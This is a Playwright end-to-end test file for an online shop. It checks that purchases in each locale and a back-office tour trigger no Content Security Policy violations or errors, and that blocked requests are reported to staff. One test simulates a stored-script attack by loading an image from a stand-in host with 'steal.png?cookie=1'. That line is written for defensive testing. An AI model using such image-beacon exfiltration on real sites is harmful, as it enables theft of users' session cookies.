import { complaintsOf } from "../support/console.ts";
import { APPROVE, CARDS, checkoutOf, confirmedNumber } from "../support/checkout.ts";
import { placeOrder } from "../support/place-order.ts";
import { newEmail } from "../support/shop-api.ts";
import { expect, test } from "../support/staff.ts";
import { adminWords, LOCALES, shopWords } from "../support/words.ts";

/** Blocked on purpose by the last test, in the same shop. */
const PROBE = "https://blocked-on-purpose.example";

for (const locale of LOCALES)
  test(`a purchase in ${locale} breaks no rule of the page and logs no error`, async ({ page, shop }) => {
    const words = await shopWords(locale);
    const { m } = words;
    const goods = await shop.make.product();
    const complaints = complaintsOf(page);
    await page.goto(`/${locale}`);
    await page.getByRole("button", { name: new RegExp(`^${m.shell.preferences}`) }).click();
    await page.getByRole("radio", { name: m.shell.themes.dark }).check({ force: true });
    await page.keyboard.press("Escape");
    await page.goto(`/${locale}/p/${goods.slug}`);
    await page.getByRole("button", { name: m.catalog.add, exact: true }).click();
    await page.getByRole("dialog").getByRole("link", { name: m.cart.checkout }).click();
    const checkout = checkoutOf(page, words);
    await checkout.fillContact(newEmail());
    await checkout.toShipping();
    await checkout.toPayment();
    await checkout.fillCard(CARDS.challenge);
    await checkout.pay.click();
    await page.getByRole("button", { name: APPROVE[locale] }).click({ timeout: 30_000 });
    await confirmedNumber(page, words);
    expect(complaints).toEqual([]);
    // Nothing of anybody's purchase was reported either.
    expect(await shop.db.cspReport.findMany({ where: { NOT: { blocked: PROBE } } })).toEqual([]);
  });

test("a round through the back office breaks no rule of the page and logs no error", async ({
  page,
  shop,
  actAs,
}) => {
  const { m } = await adminWords("en");
  const goods = await shop.make.product();
  const { number } = await placeOrder(shop.db, goods.variant.id);
  const complaints = complaintsOf(page);
  await actAs("SUPER_ADMIN");
  await page.goto("/admin");
  const menu = page.getByRole("navigation", { name: m.shell.menu });
  for (const name of ["overview", "orders", "products", "categories", "staff", "audit"] as const) {
    await menu.getByRole("link", { name: m.shell.nav[name] }).click();
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page.locator("[aria-busy=true]")).toHaveCount(0);
  }
  await page.goto(`/admin/orders/${number}`);
  await page.getByRole("button", { name: m.orders.actions.cancel }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: m.orders.actions.cancel }).click();
  await expect(page.getByText(m.orders.done.cancel).first()).toBeVisible();
  await page.goto(`/admin/products/${goods.id}`);
  await page.getByRole("textbox", { name: m.editor.name, exact: true }).fill(`${goods.name} renamed`);
  await page.getByRole("button", { name: m.common.discard }).click();
  expect(complaints).toEqual([]);
});

test("what a browser blocks is reported by itself, and shown to staff", async ({ page, shop, actAs }) => {
  const { m } = await adminWords("en");
  const { slug } = await shop.make.product();
  const path = `/en/p/${slug}`;
  await page.goto(`${path}?utm_source=letter`);
  // What a stored script would do: the picture's address carries off what it found.
  await page.evaluate((address) => {
    new Image().src = address;
  }, `${PROBE}/steal.png?cookie=1`);
  await expect.poll(() => shop.db.cspReport.count({ where: { page: path } })).toBe(1);
  await actAs("ADMIN");
  await page.goto("/admin");
  await page
    .getByRole("navigation", { name: m.shell.menu })
    .getByRole("link", { name: m.shell.nav.blocked })
    .click();
  await expect(page.getByRole("heading", { level: 1, name: m.blocked.title })).toBeVisible();
  const row = page.getByRole("row").filter({ hasText: path });
  await expect(row).toContainText(PROBE);
  await expect(row).toContainText("img-src");
  await expect(row).not.toContainText("utm_source");
});
